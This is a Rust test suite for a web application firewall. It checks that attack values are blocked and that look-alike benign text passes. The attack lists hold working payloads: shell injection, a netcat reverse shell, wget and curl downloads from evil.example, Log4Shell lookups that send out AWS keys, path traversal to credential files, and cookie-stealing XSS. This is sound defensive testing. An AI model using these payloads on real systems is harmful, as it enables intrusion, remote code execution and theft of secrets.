#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Attack classes of issue #14 written as classes, not corpus lines: shell
//! command injection through every splicing trick a shell resolves,
//! server-side includes, JavaScript calls without parentheses,
//! entity-encoded markup, Log4Shell lookups nested any way, GraphQL
//! introspection at paranoia 2, path traversal read by path grammar,
//! markup that loads or rewrites links and sinks passed as values. Each list sits next to the real traffic
//! that shares its characters and must pass.

mod common;

use rampart_waf::Policy;

/// Blocked in every placement: query, form and JSON.
fn blocked_at(v: &str, paranoia: u8) -> [bool; 3] {
    let policy = Policy {
        paranoia,
        ..Policy::default()
    };
    let enc: String = v
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect();
    let q = format!("q={enc}");
    let json = serde_json::json!({ "q": v }).to_string();
    let run = |query: &str, ct: Option<&[u8]>, body: &[u8]| {
        let mut h: Vec<(&str, &[u8])> =
            vec![("Host", b"app.example"), ("User-Agent", b"Mozilla/5.0")];
        if let Some(ct) = ct {
            h.push(("Content-Type", ct));
        }
        let method = if body.is_empty() { "GET" } else { "POST" };
        let v = common::inspect_with(&policy, method, "/api/x", query, &h, body);
        if v.block {
            let why: Vec<String> = v
                .matches
                .iter()
                .map(|m| format!("{} {}", m.rule_id, m.fragment))
                .collect();
            WHY.with(|w| w.borrow_mut().push(why.join(" | ")));
        }
        v.block
    };
    [
        run(&q, None, b""),
        run("", Some(b"application/x-www-form-urlencoded"), q.as_bytes()),
        run("", Some(b"application/json"), json.as_bytes()),
    ]
}

thread_local! {
    static WHY: std::cell::RefCell<Vec<String>> = const { std::cell::RefCell::new(Vec::new()) };
}

fn check(attacks: &[&str], benign: &[&str], paranoia: u8) {
    let mut bad = Vec::new();
    for a in attacks {
        let r = blocked_at(a, paranoia);
        if r.contains(&false) {
            bad.push(format!("missed {r:?}: {a}"));
        }
    }
    for b in benign {
        WHY.with(|w| w.borrow_mut().clear());
        let r = blocked_at(b, paranoia);
        if r.contains(&true) {
            let why = WHY.with(|w| w.borrow().first().cloned().unwrap_or_default());
            bad.push(format!("blocked {r:?}: {b} ({why})"));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn shell_injection_by_tokenizer() {
    check(
        &[
            "x;c$u''at /etc/hosts",
            "x;ca${x}t${IFS}/etc/hosts",
            "1|w'h'o\"am\"i",
            "a&&/???/i?",
            "a&&/u?r/b?n/wh?ami",
            "$(w\\hoami)",
            "q`i\\d`",
            "abc;uname${IFS}-a",
            "abc\nifconfig\n",
            ";{ls,-la,/}",
            "1;echo QXJ7LM$((53+29))$(echo QXJ7LM)QXJ7LM",
            "1|echo RMFPZD$((71+13))RMFPZD",
            "z$((23*7))",
            "x;sleep${IFS}9",
            "x||ping -c 9 127.0.0.1||",
            "1;WHOAMI",
            "1&TYPE C:\\boot.ini",
            "1;n$@c -e /bin/sh 203.0.113.5 4444",
            "x\";id;\"",
            "x';uname -a;'",
            "x;l$()s -la",
        ],
        &[
            "Tom & Jerry; cat videos",
            "cats & dogs; sleep tips for puppies",
            "php & mysql hosting; python tutorials",
            "name | id | email",
            "Home > Men > Hoodies | Shop",
            "To Do | Doing | Done",
            "R&D; find the best team",
            "Hello ${name}, your order is ready",
            "Total: $((price)) incl. tax",
            "Bring: passport; ID card; echo of the past",
            "rock|pop|jazz",
            "Q&A: who we are; where we work",
        ],
        1,
    );
}

#[test]
fn path_traversal_by_path_grammar() {
    check(
        &[
            // Climbs, however the dot and the separator are spelled.
            "..0x2f..0x2fetc0x2fpasswd",
            "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini",
            "..\u{2216}..\u{2216}windows\u{2216}win.ini",
            "..%u2216..%u2216etc%u2216shadow",
            "\\..%uEFC8..%uEFC8inetpub%uEFC8wwwroot%uEFC8web.config",
            "/..%uF025..%uF025etc%uF025group",
            "?.\\?.\\?.\\etc\\hosts",
            ".?/.?/var/log/auth.log",
            "..%01/..%01/..%01/etc/motd",
            "..%%32%%66..%%32%%66windows/win.ini",
            // A system file named by its path, or a rooted system folder.
            "etc\\shadow",
            "....web-inf/classes/app.properties",
            "C:\\Windows\\System32\\config\\SAM",
            "c:/inetpub/logs/LogFiles/W3SVC1/u_ex240101.log",
            "D:\\xampp\\apache\\conf\\extra\\httpd-vhosts.conf",
            "\\wamp64\\bin\\mysql\\my.ini",
            "C:/Users/Public/../Administrator/AppData/Roaming/x",
            "C:\\Documents and Settings\\All Users\\ntuser.ini",
            "/var/spool/cron/crontabs/root",
            "file:///proc/self/cmdline",
            "/private/etc/master.passwd",
        ],
        &[
            // File names and paths real forms and APIs carry.
            "C:\\fakepath\\IMG_2041.jpg",
            "C:\\Users\\anna\\Documents\\Lebenslauf 2024.pdf",
            "D:\\Projects\\site\\src\\index.html",
            "/library/books/978-0-14-044913-6",
            "/windows/download/setup",
            "docs/windows/system-requirements",
            "/users/42/settings",
            "/dev/docs/api",
            "/etc",
            "src/components/Header.tsx",
            "wp-content/uploads/2024/05/team.png",
            "Loading.../please wait",
            "What?/Why? A FAQ",
            "version 2.10.3 / build 0x2f3e4d",
            "It's in ~/Downloads/etc. folder, isn't it?",
        ],
        1,
    );
}

#[test]
fn markup_that_loads_or_relinks_and_sinks_passed_as_values() {
    check(
        &[
            "<layer src=\"https://evil.example/scriptlet.html\"></layer>",
            "<ilayer SRC=//evil.example/x>",
            "<xml id=i src=\"https://evil.example/island.xml\"></xml>",
            "<bgsound src=\"javascript-free.example/a.wav\">",
            "<svg><a><set attributeName=\"xlink:href\" to=\"//evil.example/\"/><text>go</text></a></svg>",
            "<svg><a><animate attributeName=href values=\"https://evil.example/\"/></a></svg>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>",
            "<!ATTLIST a href CDATA \"https://evil.example/\">",
            "<div style=\"binding: url(https://evil.example/x.xml#b)\">",
            "(confirm)(document.domain)",
            "x=prompt;x(1)",
            "[document.cookie].map(alert)",
            "setInterval(alert,9)",
        ],
        &[
            // CMS posts and comments: prose, apostrophes, code, SVG icons.
            "<p>It's the <em>alert</em> level (red) today, isn't it?</p>",
            "<p>Use <code>items.find(x =&gt; x.id === id)</code> to look one up.</p>",
            "<svg viewBox=\"0 0 24 24\"><path d=\"M0 0h24v24H0z\"/></svg>",
            "<svg><circle r=\"4\"><animate attributeName=\"opacity\" values=\"0;1\" dur=\"1s\"/></circle></svg>",
            "<p>The <code>&lt;set&gt;</code> element animates one attribute.</p>",
            "<img src=\"/uploads/2024/05/bobs-cat.jpg\" alt=\"Bob's cat\">",
            "Read <a href=\"https://example.org/docs\">the docs</a> (alert) for new replies",
            "Don't panic: the (prompt) field is optional, we'll fill it later",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><feed/>",
            "We'll set an alert; you'll get an email, that's all",
            "<xml>legacy config</xml> and a <layer>cake</layer>",
        ],
        1,
    );
}

#[test]
fn php_open_tags_however_short() {
    check(
        &[
            "test<?",
            "name=<? ",
            "<?xml (); system('id');",
            "<?xml\t\t$x=1;",
            "somePhpWouldGoHere[\\php]",
        ],
        &[
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"7\"/>",
            "Is a<b? Yes, if a is 1 and b is 2.",
            "Why? <b>Because</b>",
            "[code]php artisan migrate[/code]",
        ],
        1,
    );
}

#[test]
fn server_side_includes() {
    check(
        &[
            "<!--#exec cmd=\"ls -la\" -->",
            "<!--#include virtual=\"/etc/passwd\" -->",
            "<!--#include file=\"../../web.config\"-->",
            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
            "<!--#printenv -->",
            "<!--#config errmsg=\"x\"--><!--#exec cgi=\"/cgi-bin/x\"-->",
            "&lt;!--#exec cmd=&quot;id&quot;--&gt;",
            "<!-- #exec cmd=\"id\" -->",
        ],
        &[
            "<!-- main content -->",
            "<!-- #region Header -->",
            "See section #include-files in the docs",
            "<!--[if lt IE 9]><p>old</p><![endif]-->",
        ],
        1,
    );
}

#[test]
fn javascript_calls_without_parentheses() {
    check(
        &[
            "<img src=x onerror=alert.call`1`>",
            "<svg onload=eval.apply(null,[atob`YWxlcnQoMSk=`])>",
            "<img src=x onerror=window?.alert?.(document.domain)>",
            "\"><svg onload=top['al'+'ert']`1`>",
            "<img src=x onerror=alert`${document.cookie}`>",
            "javascript:Function`a${'alert(1)'}```",
            "<svg onload=setTimeout`alert\\u0028document.domain\\u0029`>",
            "<body onload=confirm.call(null,1)>",
        ],
        &[
            "Use Array.prototype.map.call(list, fn) to map a NodeList",
            "obj?.method?.() is optional chaining",
            "Template literal: `Hello ${name}`",
            "Call us at 555-0100, or apply online",
        ],
        1,
    );
}

#[test]
fn entity_encoded_markup() {
    check(
        &[
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(document.cookie)&#60;/script&#62;",
            "&#x3C;img src=x onerror=alert(1)&#x3E;",
            "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "&lt;svg onload=alert(1)&gt;",
        ],
        &[
            "Use &lt;b&gt; for bold and &lt;i&gt; for italics",
            "Tom &amp; Jerry &#8212; the movie",
            "Tom &amp; Jerry &lt;3 &#9829;",
            "&lt;p&gt;Hello&lt;/p&gt;",
        ],
        1,
    );
}

#[test]
fn log4shell_lookups_in_any_nesting() {
    check(
        &[
            "${jndi:ldap://203.0.113.5/a}",
            "${${x:-j}${y:-n}di:ldap://203.0.113.5/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
            "${${lower:j}${upper:n}${lower:d}${lower:i}:ldap://x.example/a}",
            "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//x.example/a}",
            "${${a:-${b:-${c:-j}}}ndi:dns://x.example/a}",
            "${j${k8s:k5:-ND}i:ldap://x.example/a}",
            "${${lower:${upper:${lower:j}}}${lower:n}di:rmi://x.example/a}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
            "${jn${lower:d}i:l${lower:d}ap://x.example/${env:AWS_SECRET_ACCESS_KEY}}",
        ],
        &[
            "Hello ${name}, you have ${count:-0} messages",
            "${HOME}/projects/${USER:-me}",
            "Price: ${price} (was ${old_price})",
            "{{#if user}}${user.name}{{/if}}",
        ],
        1,
    );
}

#[test]
fn graphql_introspection_at_paranoia_2() {
    let attacks = [
        "query IntrospectionQuery { __schema { queryType { name } types { name fields { name } } } }",
        "{__schema{types{name}}}",
        "query { __type(name: \"User\") { fields { name type { name } } } }",
    ];
    let benign = [
        "query GetUser($id: ID!) { user(id: $id) { id name __typename } }",
        "{ products(first: 10) { edges { node { id title } } } }",
    ];
    check(&attacks, &benign, 2);
    // Introspection is how tools explore an API: not blocked by default.
    for a in attacks {
        assert_eq!(blocked_at(a, 1), [false; 3], "{a}");
    }
}

#[test]
fn harmless_js_api_calls_in_code_snippets_pass_probes_and_code_strings_block() {
    check(
        &[
            // A console call as the whole value with a number: a probe
            // that proves server-side evaluation by its output.
            "console.warn(7)",
            "console.debug(1337);",
            // Bracket access and this-bound calls: no snippet writes them.
            "console['error'](42)",
            "console.dir.apply(this,[1])",
            // A timer handed code as a string, or a name that holds one.
            "setTimeout('document.body.remove()',10)",
            "setInterval(name)",
            "setTimeout(payload, 1)",
            "require('child_process').execSync('id')",
            "include($_REQUEST['page'])",
            "require_once('https://evil.example/shell.txt')",
        ],
        &[
            "console.log(user)",
            "items.forEach(item => console.log(item.id))",
            "console.error('request failed', err);",
            "console.table(rows)",
            "setTimeout(function () { banner.hide() }, 3000)",
            "setInterval(() => refresh(), 60000)",
            "setTimeout(async () => { await save() }, 500)",
            "const express = require('express'); const app = express();",
            "const { z } = require(\"zod\")",
            "fn.call(this, event)",
        ],
        1,
    );
}

#[test]
fn inline_style_breaking_out_of_its_declarations() {
    check(
        &[
            "<p style=\"color:blue}body{background:url(//evil.example/x)\">hi</p>",
            "<span style=\"width:1px;{position:fixed;top:0}\">x</span>",
            "<b style=\"font-family:'a&#10;;position:fixed;top:0'\">x</b>",
            "<i style=\"width:1px&#2;;background:url(//evil.example/x)\">x</i>",
            "<em style=\"font:10px 'x\\27\\3B color\\3A red'\">x</em>",
        ],
        &[
            "<p style=\"color:red; font-family: 'Times New Roman'\">Hello</p>",
            "<span style=\"font-family:\\5FAE\\8F6F\\96C5\\9ED1\">text</span>",
            "<p style=\"margin:0cm;font-family:'Times New\n Roman'\">Word paste</p>",
            "<div style=\"background:url(/img/hero.jpg) no-repeat\">banner</div>",
        ],
        1,
    );
}

#[test]
fn url_attributes_with_a_split_scheme_or_a_dotted_hex_host() {
    check(
        &[
            "<a href=\"h\ttps://evil.example/login\">account</a>",
            "<img src=\"ht\ntp://evil.example/p.gif\">",
            "<a href=\"http://0x7f.0x0.0x0.0x1/admin\">x</a>",
            "<a href=\"http://0xa9.0xfe.169.254/latest/\">x</a>",
        ],
        &[
            "<p>See <a href=\"https://example.com/docs\">docs</a></p>",
            "<p>See <a href=\"https://0xproject.com/\">0x</a></p>",
            "<p>See <a href=\"https://0xabc.example.com/\">x</a></p>",
            "see http://example.com:8080/a and call 0x1F",
        ],
        1,
    );
}

#[test]
fn navigation_by_assignment_to_location() {
    check(
        &[
            "location='//evil.example/'",
            "top.location = \"https://evil.example/phish\"",
            "x=1;location=`http://evil.example/?c=`+document.body.innerText",
        ],
        &[
            "location=Paris",
            "{\"location\":\"https://maps.example/place/1\"}",
            "location == 'https://example.com/'",
            "Store location: 'https://shop.example/berlin' (opens daily)",
        ],
        1,
    );
}

#[test]
fn shell_lines_written_with_escapes_and_terminal_sequences() {
    check(
        &[
            // Written for a layer that decodes C / JS escapes.
            "\\nid\\n",
            "report.pdf\\nwhoami",
            "x\\u000auname -a",
            "a\\x0acat /etc/passwd",
            // A terminal control sequence hiding what follows in a log.
            "ok\\033[2Kwget http://evil.example/x",
            "\\x1b[1A\\x1b[2Kall good",
            "title\\u001b]0;pwned\\u0007",
        ],
        &[
            "C:\\new\\folder\\notes.txt",
            "Line one\\nLine two\\nLine three",
            "C:\\Users\\nick\\Documents",
            "C:\\temp\\x64\\build.log",
            "ANSI colours look like ESC[31m in the docs",
        ],
        1,
    );
}

#[test]
fn php_variable_variables_with_blanks_and_windows_drive_listings() {
    check(
        &[
            "$ {PHP_OS}",
            "$\t{ 'sys' . 'tem' }",
            "$  {$cmd}",
            "dir C:\\Windows\\System32",
            "dir D:\\backups",
        ],
        &[
            "costs $ 5 {approx}",
            "Total: $ {{price}}",
            "${HOME} is set by the login shell",
            "dir of photography",
        ],
        1,
    );
}

/// HTML injection (rule 2013): a value whose markup is one element that
/// links to, loads from or posts to another host — a probe or a planted
/// link — or CSS loading a resource from another host. A lone link or
/// image to another host is blocked even when an editor posted it: a
/// field that accepts editor markup needs an exclusion of 2013 for that
/// field. Site-relative links and images pass; page markup with structure
/// (consent texts, analytics beacons describing the page) passes, and is
/// blocked at paranoia 2 (rule 2014).
#[test]
fn html_injection_in_a_value() {
    let attacks = [
        "<a href=\"http://login.evil.example/\">Your session expired, sign in again</a>",
        "\"><a href=//evil.example/>x</a>",
        "<IMG SRC=\"http://evil.example/track.php?u=1\">",
        "<img src=\"https://cdn.example/x.png\" alt=\"x\" width=\"100\">",
        "<div style=\"background:url(https://evil.example/p.png) no-repeat\">banner</div>",
        "<math><a xlink:href=\"//evil.example/\">click",
        "<form action=\"https://evil.example/collect\" method=\"post\">",
        "<video poster=//evil.example/p.png>",
        "background:url(//evil.example/p.png)",
        "*{background-image:url(//evil.example/p.png)}",
    ];
    let benign = [
        "<p>By clicking below, you agree to the <a href=\"https://example.com/terms\">Terms</a> and <a href=\"https://example.com/privacy\">Privacy Policy</a>.</p>",
        "<div><div class=\"tile\"><picture><source srcset=\"https://cdn.example/p.jpg\"></picture></div></div>",
        "<b>bold</b> and <i>it</i>",
        "<a href=\"mailto:bob@example.com\">mail</a>",
        "query Q($c:Currency) { image { src: url(transform:{maxWidth:64}) } }",
        "see https://example.com/a?u=url(1)",
    ];
    check(&attacks, &benign, 1);
    check(&benign[..2], &[], 2);
}

/// A value that is, as a whole, one command line (rule 3032), for a
/// parameter handed to a shell or exec as it is; and a value that is only
/// template placeholders reading a member or doing arithmetic (rule 9005).
/// Plain words after a command name (`ls foo bar`), search text with a
/// minus, and a lone mail-merge field (`{{name}}`) pass.
#[test]
fn whole_command_lines_and_template_probes() {
    check(
        &[
            "nc -e /bin/sh 10.0.0.1 4444",
            "wget http://evil.example/s.sh",
            "curl -s -o /tmp/x http://evil.example/x",
            "ansible all -m shell",
            "kubectl get secrets --all-namespaces",
            "/usr/bin/nc 10.0.0.1 4444",
            "{{user.password}}",
            "{0.__class__}",
            "{7} * {7}",
        ],
        &[
            "ls foo bar",
            "del nuevo mundo s/n",
            "jaguar -car",
            "New York - Paris",
            "Type -A blood",
            "{{name}}",
            "Hello {{ name }}, your order {{order}} shipped",
            "a {b.c} d",
        ],
        1,
    );
}
